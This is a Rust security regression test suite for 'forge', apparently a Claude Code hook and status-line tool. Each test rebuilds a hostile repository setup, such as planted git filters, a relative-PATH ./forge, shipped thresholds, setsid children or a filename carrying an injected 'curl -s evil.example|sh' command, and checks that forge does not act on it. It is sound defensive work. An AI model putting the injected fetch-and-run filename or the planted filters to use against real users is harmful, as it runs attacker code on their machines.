//! The doors an attack review of the landed build found open (issue "21 of 24", its
//! "Open doors" table). Each test builds the hostile tree of one row — what a
//! cloned repository, a tarball or a shared folder can ship — runs the real binary on
//! it, and checks that forge did not act on it; each also checks that what *you*
//! configured still happens, so a test cannot pass by forge doing nothing at all.
//! Every one of them failed on the build before that issue (`FORGE_TEST_BIN` runs
//! them against another binary).

#![allow(clippy::unwrap_used)]

use crate::common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use common::{TestProject, git, ok_stdout, sh_quote, statusline, user_config, wait_until};
use serde_json::Value;

/// An executable shell script at `path` that appends `name` to `mark` (and, for a
/// filter, passes its input through).
fn planted_program(path: &Path, name: &str, mark: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(
        path,
        format!("#!/bin/sh\necho {name} >> '{}'\ncat\n", mark.display()),
    )
    .unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn marks(mark: &Path) -> String {
    std::fs::read_to_string(mark).unwrap_or_default()
}

/// A tree whose index is past the size from which forge asks the `git` binary
/// rather than libgit2.
fn large_tree(p: &TestProject) {
    for i in 0..2500 {
        p.write(&format!("src/m{:02}/f{i}.rs", i / 400), &format!("{i:05}"));
    }
    git(&p.root, &["add", "-A"]);
    git(&p.root, &["commit", "-qm", "a large tree"]);
}

/// Row 1: the repository's `.git/config` (a shipped `.git/`: a tarball, a zip, a
/// shared folder) says `core.worktree = ../sub`, and `sub/` is a nested repository
/// whose own config names a filter. forge judged the outer configuration (no
/// filter), then ran `git -C sub status`, and git, finding `sub/.git`, read the
/// nested configuration and ran its filter on every changed file. Now git reads
/// exactly the repository forge judged (`--git-dir` and `--work-tree` on its command
/// line), under `hook Stop` and under `forge status`.
#[test]
fn row1_a_core_worktree_into_a_nested_repository_never_runs_its_filter() {
    let p = TestProject::new();
    large_tree(&p);
    let mark = p.dir.path().join("filter-ran");
    let filter = p.dir.path().join("filter.sh");
    planted_program(&filter, "filter", &mark);
    let sub = p.root.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, &["init", "-q", "-b", "main"]);
    p.write("sub/.gitattributes", "* filter=x\n");
    for i in 0..3 {
        p.write(&format!("sub/g{i}.txt"), &format!("{i:05}"));
    }
    git(&sub, &["add", "-A"]);
    git(&sub, &["commit", "-qm", "nested"]);
    git(
        &sub,
        &["config", "filter.x.clean", filter.to_str().unwrap()],
    );
    // Edited to the same size: git must hash them, through the filter.
    for i in 0..3 {
        p.write(&format!("sub/g{i}.txt"), &format!("{:05}", i + 90000));
    }
    git(&p.root, &["config", "core.worktree", "../sub"]);
    std::fs::create_dir_all(p.forge_dir().join("logs")).unwrap();

    let out = p
        .forge()
        .args(["hook", "Stop"])
        .write_stdin(p.payload("hooks/Stop.json"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(marks(&mark), "", "hook Stop's git ran the nested filter");
    let status = ok_stdout(p.forge().arg("status"));
    assert_eq!(marks(&mark), "", "forge status's git ran the nested filter");
    // Still counted: the outer repository's files are gone from its work tree
    // (`sub/`), and the nested repository's edits are untracked files of it.
    let cache: Value = serde_json::from_str(&p.read(".forge/logs/git-cache.json")).unwrap();
    assert!(
        cache["uncommitted_changes"].as_u64().unwrap() >= 2500,
        "{cache}"
    );
    assert!(status.contains("main"), "{status}");
}

/// Row 1, the environment's side: variables that move which configuration git reads
/// (a project's `.claude/settings.json` can set a session's environment, which the
/// hooks inherit). `GIT_CONFIG_GLOBAL`, `GIT_CONFIG_COUNT` entries and a relative
/// `XDG_CONFIG_HOME` made git read a repository's file as *your* configuration, which
/// the verdict leaves to you; now a `git` child of forge gets none of them.
#[test]
fn row1_git_variables_that_move_its_configuration_never_reach_forges_git() {
    let p = TestProject::new();
    large_tree(&p);
    let mark = p.dir.path().join("filter-ran");
    let filter = p.dir.path().join("filter.sh");
    planted_program(&filter, "filter", &mark);
    p.write(".gitattributes", "* filter=x\n");
    let cfg = format!("[filter \"x\"]\n\tclean = {}\n", filter.display());
    p.write("team.gitconfig", &cfg);
    p.write("git/config", &cfg);
    for i in [0, 1, 2] {
        p.write(&format!("src/m00/f{i}.rs"), &format!("{:05}", i + 90000));
    }
    std::fs::create_dir_all(p.forge_dir().join("logs")).unwrap();
    let cases: [&[(&str, &str)]; 3] = [
        &[("GIT_CONFIG_GLOBAL", "team.gitconfig")],
        &[
            ("GIT_CONFIG_COUNT", "1"),
            ("GIT_CONFIG_KEY_0", "filter.x.clean"),
            ("GIT_CONFIG_VALUE_0", filter.to_str().unwrap()),
        ],
        &[("XDG_CONFIG_HOME", ".")],
    ];
    for vars in cases {
        let out = p
            .forge()
            .args(["hook", "Stop"])
            .envs(vars.iter().copied())
            .write_stdin(p.payload("hooks/Stop.json"))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        assert_eq!(
            marks(&mark),
            "",
            "forge's git ran the filter under {vars:?}"
        );
        let cache: Value = serde_json::from_str(&p.read(".forge/logs/git-cache.json")).unwrap();
        // The three edits, .gitattributes, team.gitconfig and git/.
        assert_eq!(cache["uncommitted_changes"], 6, "{vars:?}: {cache}");
    }
}

fn commits(p: &TestProject) -> usize {
    let out = std::process::Command::new("git")
        .args(["rev-list", "--count", "HEAD"])
        .current_dir(&p.root)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// Row 2: a shipped `.forge/config.toml` sets the context levels and the handoff
/// threshold, which counted as display-only: `warn = 1, critical = 2, emergency = 3`
/// made *your own* `L2 = ["wip_commit"]` commit at 5 %, and `handoff_threshold = 2`
/// ran *your own* `[[on_threshold]]` command at 5 %. Now those values change what
/// the status line shows, and your steps wait on your own values until you trust the
/// file.
#[test]
fn row2_shipped_levels_never_decide_when_your_own_steps_run() {
    let p = TestProject::new();
    git(&p.root, &["config", "user.name", "You"]);
    git(&p.root, &["config", "user.email", "you@example.com"]);
    let mark = p.dir.path().join("hook-ran");
    user_config(
        &p,
        &format!(
            "[ladder]\nL2 = [\"wip_commit\"]\nprotected_branches = []\n\
             [[on_threshold]]\ncommand = \"echo ran >> {}\"\n",
            sh_quote(&mark)
        ),
    );
    p.write(
        ".forge/config.toml",
        "[context]\nwarn = 1\ncritical = 2\nemergency = 3\nhandoff_threshold = 2\n",
    );
    std::fs::write(p.root.join("README.md"), "# your work in progress\n").unwrap();
    let before = commits(&p);

    let line = statusline(&p, 5);
    // What it shows, it may: the warning at its own threshold.
    assert!(line.contains("⚠ CTX 5%"), "{line}");
    // The detached children would commit and run the hook within a second or two.
    let deadline = Instant::now() + Duration::from_secs(3);
    while commits(&p) == before && marks(&mark).is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(commits(&p), before, "your L2 committed at 5 %");
    assert_eq!(marks(&mark), "", "your [[on_threshold]] command ran at 5 %");
    assert!(p.session_handoffs().is_empty(), "a handoff at 5 %");
    // At your own values they run: the hook and the handoff at 70, L2 at 85.
    statusline(&p, 72);
    wait_until("your [[on_threshold]] command", || !marks(&mark).is_empty());
    wait_until("the threshold handoff", || p.session_handoffs().len() == 1);
    assert_eq!(commits(&p), before, "L2 before 85 %");
    statusline(&p, 86);
    wait_until("your L2's WIP commit", || commits(&p) == before + 1);
    // Said, with the command that makes them decide.
    let show = ok_stdout(p.forge().args(["config", "show"]));
    assert!(
        show.contains("context.warn = 1.0") && show.contains("#   context.warn = 1   (shown"),
        "{show}"
    );
    let status = ok_stdout(p.forge().args(["trust", "--status"]));
    assert!(
        status.contains("context.warn = 1") && status.contains("when your ladder's L1 actions run"),
        "{status}"
    );
}

/// This build (or `FORGE_TEST_BIN`'s) as `forge` in the test's own absolute PATH
/// folder, as an installed forge is found.
fn forge_on_path(p: &TestProject) {
    std::fs::create_dir_all(p.bin_dir()).unwrap();
    std::os::unix::fs::symlink(crate::common::forge_bin(), p.bin_dir().join("forge")).unwrap();
}

/// Row 3, `forge init`'s side: the entries it writes with the bare name `forge` (so
/// a committed file works on every machine) were `command -v forge … && exec forge
/// hook E`, and with a relative `PATH` entry first the repository's own `./forge`
/// ran on every event and tick (Claude Code runs hooks and the status line in the
/// project folder). Now each entry runs only a `forge` found in an absolute folder
/// of `PATH` — the hooks, the status line and the wrapped status line.
#[test]
fn row3_init_entries_never_run_a_forge_from_a_relative_path_entry() {
    let p = TestProject::new();
    forge_on_path(&p);
    let mark = p.dir.path().join("planted-ran");
    planted_program(&p.root.join("forge"), "planted", &mark);
    p.write(
        ".claude/settings.json",
        "{\"statusLine\": {\"type\": \"command\", \"command\": \"echo theirs\"}}\n",
    );
    ok_stdout(p.forge().args(["init", "--wrap-statusline"]));
    let settings: Value = serde_json::from_str(&p.read(".claude/settings.json")).unwrap();
    let path = format!(".:{}:/usr/local/bin:/usr/bin:/bin", p.bin_dir().display());
    let run = |command: &str, stdin: String| {
        let out = assert_cmd::Command::new("bash")
            .args(["-c", command])
            .current_dir(&p.root)
            .env("PATH", &path)
            .env("HOME", &p.home)
            .env("XDG_CONFIG_HOME", &p.xdg)
            .env("XDG_STATE_HOME", p.state())
            .write_stdin(stdin)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{command}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    for (event, fixture) in [
        ("SessionStart", "hooks/SessionStart-startup.json"),
        ("Stop", "hooks/Stop.json"),
    ] {
        let command = settings["hooks"][event][0]["hooks"][0]["command"]
            .as_str()
            .unwrap();
        run(command, p.payload(fixture));
        assert_eq!(marks(&mark), "", "the repository's ./forge ran for {event}");
    }
    let line = run(
        settings["statusLine"]["command"].as_str().unwrap(),
        p.payload("statusline/used-74.json"),
    );
    assert_eq!(
        marks(&mark),
        "",
        "the repository's ./forge ran the status line"
    );
    // Your forge ran each time: both events recorded, the line composed.
    let events = p.read(".forge/logs/events.jsonl");
    assert!(
        events.contains("\"SessionStart\"") && events.contains("\"Stop\""),
        "{events}"
    );
    assert!(line.contains("theirs") && line.contains("74%"), "{line}");
    // A file an earlier version wired: doctor names the entries, and forge init
    // rewrites them.
    let mut older = settings.clone();
    older["hooks"]["Stop"][0]["hooks"][0]["command"] =
        serde_json::json!("command -v forge >/dev/null 2>&1 && exec forge hook Stop || true");
    std::fs::write(
        p.root.join(".claude/settings.json"),
        serde_json::to_string_pretty(&older).unwrap(),
    )
    .unwrap();
    let doctor = String::from_utf8(p.forge().arg("doctor").output().unwrap().stdout).unwrap();
    assert!(
        doctor.contains("warn  path-search") && doctor.contains(".claude/settings.json: Stop"),
        "{doctor}"
    );
    ok_stdout(p.forge().args(["init", "--wrap-statusline"]));
    let doctor = String::from_utf8(p.forge().arg("doctor").output().unwrap().stdout).unwrap();
    assert!(doctor.contains("ok    path-search"), "{doctor}");
    // Without a forge in an absolute folder, the fallback: nothing runs, exit 0.
    std::fs::remove_file(p.bin_dir().join("forge")).unwrap();
    let command = settings["hooks"]["Stop"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap();
    run(command, p.payload("hooks/Stop.json"));
    assert_eq!(marks(&mark), "");
}

/// Whether process `pid` still exists (a zombie counts: nobody reaped it).
fn alive(pid: i32) -> bool {
    rustix::process::Pid::from_raw(pid)
        .is_some_and(|p| rustix::process::test_kill_process(p).is_ok())
}

/// Row 5: a wrapped status line's descendant that leaves its process group
/// (`setsid`) outlived forge: the group kill at the deadline missed it, and so did
/// forge's return when the command exited at once. Now forge is the subreaper of the
/// wrapped command's tree while it runs and kills what is left of it when it returns:
/// whether the command ends at once or holds its output past the deadline.
#[test]
fn row5_a_wrapped_status_lines_setsid_child_never_outlives_forge() {
    let p = TestProject::new();
    for (case, tail) in [
        // The child lets go of the line's output: forge returns at once.
        ("returns at once", ">/dev/null 2>&1"),
        // The child holds the line's output: forge gives up at the 2 s deadline.
        ("held past the deadline", ""),
    ] {
        let pidfile = p.dir.path().join(format!("setsid-{}.pid", case.len()));
        let command = format!(
            "setsid sh -c 'echo $$ > {}; exec sleep 30' {tail} & sleep 0.3; echo theirs",
            sh_quote(&pidfile)
        );
        let line = ok_stdout(
            p.forge()
                .args(["statusline", "--wrap", &command])
                .write_stdin(p.payload("statusline/used-74.json")),
        );
        assert!(line.contains("74%"), "{case}: {line}");
        let pid: i32 = std::fs::read_to_string(&pidfile)
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        let gone = !alive(pid);
        if !gone {
            let _ = rustix::process::kill_process(
                rustix::process::Pid::from_raw(pid).unwrap(),
                rustix::process::Signal::KILL,
            );
        }
        assert!(gone, "{case}: the setsid child {pid} outlived forge");
    }
}

/// Row 6: `forge init` on a settings file with a key twice re-serialised the whole
/// file: the duplicates collapsed, `\u` escapes were decoded, a 30-digit integer
/// became `1.2345678901234568e+29`, and `--uninstall` did not give it back. Now such
/// a file is refused like invalid JSON, naming the key, and nothing is written; a
/// file without duplicates keeps its numbers and escapes byte for byte, through
/// init and `--uninstall`.
#[test]
fn row6_init_never_rewrites_a_settings_file_it_cannot_keep() {
    let p = TestProject::new();
    forge_on_path(&p);
    let twice = "{\n  \"model\": \"opus\",\n  \"cleanupPeriodDays\": 123456789012345678901234567890,\n  \
                 \"env\": {\"GREETING\": \"caf\\u00e9\"},\n  \"model\": \"sonnet\"\n}\n";
    let path = p.write(".claude/settings.json", twice);
    for args in [&["init"][..], &["init", "--uninstall"][..]] {
        let out = p.forge().args(args).output().unwrap();
        assert_ne!(out.status.code(), Some(0), "{args:?} accepted a key twice");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("\"model\" is there twice"), "{args:?}: {err}");
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            twice,
            "{args:?} wrote"
        );
    }
    // Without the duplicate: init keeps every byte of it it does not change, and
    // --uninstall gives the file back as it was.
    let once = "{\n  \"cleanupPeriodDays\": 123456789012345678901234567890,\n  \
                \"env\": {\"GREETING\": \"caf\\u00e9\"}\n}\n";
    std::fs::write(&path, once).unwrap();
    ok_stdout(p.forge().arg("init"));
    let wired = std::fs::read_to_string(&path).unwrap();
    assert!(
        wired.contains("123456789012345678901234567890") && wired.contains("caf\\u00e9"),
        "{wired}"
    );
    ok_stdout(p.forge().args(["init", "--uninstall"]));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), once);
}

/// Row 7: a repository ships a handoff named `agent-T-1$(curl -s evil.example|sh)-….md`;
/// the dashboard's `y` put its path on the clipboard (OSC 52) raw, and a paste into
/// a shell ran the command. Now the path is copied quoted for a shell. Driven in a
/// real terminal (tmux, which keeps what OSC 52 copies in its paste buffer).
#[test]
fn row7_y_copies_a_shipped_handoffs_path_quoted_for_a_shell() {
    use common::tmux::Tmux;
    if !Tmux::here() {
        return;
    }
    let p = TestProject::new();
    let name = "agent-T-1$(curl -s evil.example|sh)-20261121-101502.md";
    let fixture =
        std::fs::read_to_string(common::fixtures().join("handoffs/agent-T-012-20261121-101502.md"))
            .unwrap();
    p.write(&format!(".forge/handoffs/{name}"), &fixture);
    let bin = std::env::var_os("FORGE_TEST_BIN").map_or_else(
        || env!("CARGO_BIN_EXE_forge").into(),
        std::path::PathBuf::from,
    );
    let command = format!(
        "cd {} && env -u CLAUDE_PROJECT_DIR HOME={} XDG_CONFIG_HOME={} XDG_STATE_HOME= NO_COLOR=1 {} tui",
        sh_quote(&p.root),
        sh_quote(&p.home),
        sh_quote(&p.xdg),
        sh_quote(&bin)
    );
    let tmux = Tmux::start(120, 30, &command);
    tmux.run(&["set-option", "-g", "set-clipboard", "on"]);
    tmux.wait_for("T-1");
    tmux.keys(&["y"]);
    tmux.wait_for("copied");
    let copied = tmux.run(&["show-buffer"]);
    let path = p.root.join(".forge/handoffs").join(name);
    assert_eq!(
        copied.trim_end_matches('\n'),
        format!("'{}'", path.display()),
        "the clipboard got the path unquoted"
    );
    tmux.keys(&["q"]);
}

/// Row 8: the agent name (`FORGE_AGENT`, else the tmux session's name) picks which
/// of *your own* `[[agents.X.on_session_start]]` commands run: whoever names a
/// session `deployer` on a shared tmux server runs your deployer's commands in it.
/// That is how it works (shown here); docs/security.md now says so, and what it
/// means on a shared tmux server.
#[test]
fn row8_the_agent_name_picks_your_own_agent_commands_and_the_docs_say_so() {
    let p = TestProject::new();
    user_config(
        &p,
        "[[agents.deployer.on_session_start]]\ncommand = \"echo DEPLOYER-CONTEXT\"\n",
    );
    let start = |agent: Option<&str>| {
        let mut cmd = p.forge();
        if let Some(a) = agent {
            cmd.env("FORGE_AGENT", a);
        }
        ok_stdout(
            cmd.args(["hook", "SessionStart"])
                .write_stdin(p.payload("hooks/SessionStart-startup.json")),
        )
    };
    assert!(start(Some("deployer")).contains("DEPLOYER-CONTEXT"));
    assert!(!start(Some("builder")).contains("DEPLOYER-CONTEXT"));
    assert!(!start(None).contains("DEPLOYER-CONTEXT"));
    let doc =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/security.md"))
            .unwrap();
    let flat = doc.split_whitespace().collect::<Vec<_>>().join(" ");
    for said in [
        "## Who you are: the agent name",
        "`$FORGE_AGENT`, else the name of the tmux session",
        "makes forge run *your* `[[agents.deployer.on_session_start]]` commands",
        "On a tmux server of your own that is you. On a **shared tmux server**",
        "`$FORGE_AGENT` wins over the tmux session name",
    ] {
        assert!(flat.contains(said), "docs/security.md does not say: {said}");
    }
}
